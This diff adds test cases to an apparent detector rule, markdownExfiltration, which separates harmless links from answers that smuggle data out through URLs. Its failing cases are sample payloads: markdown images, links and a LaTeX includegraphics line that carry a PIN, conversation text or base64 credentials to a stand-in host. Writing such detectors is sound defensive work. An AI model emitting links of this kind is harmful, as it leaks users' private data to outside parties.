@@ -42,12 +42,14 @@ export const markdownExfiltration: Rule = {
       answer(
         '![a](https://www.google.com/url?q=https%3A%2F%2Ft.example%2F%3Fd%3Dpin%20is%20now%20441)',
       ),
+      answer('[on](https://t.example/?conversation=we%20close%20the%20plant%20soon)'),
       answer('\\includegraphics{https://t.example/a.png?d=dXNlcjphbGljZSBrZXk6NDI0Mg}'),
     ],
     passes: [
       answer('![chart](https://example.com/chart.png)'),
       answer('![build](https://img.shields.io/badge/build-passing-brightgreen)'),
       answer('[map](https://maps.example.com/?q=Main+Street+5&utm_source=mail)'),
+      answer('[share](https://social.example/?text=we%20like%20this%20page%20much)'),
       answer('[docs](https://example.com/guide#install)'),
       answer('Order 7710293: [track it](https://shop.example/orders?order=7710293)'),
       answer('Our scanner documentation gives https://webhook.site/7f2b as an example.'),
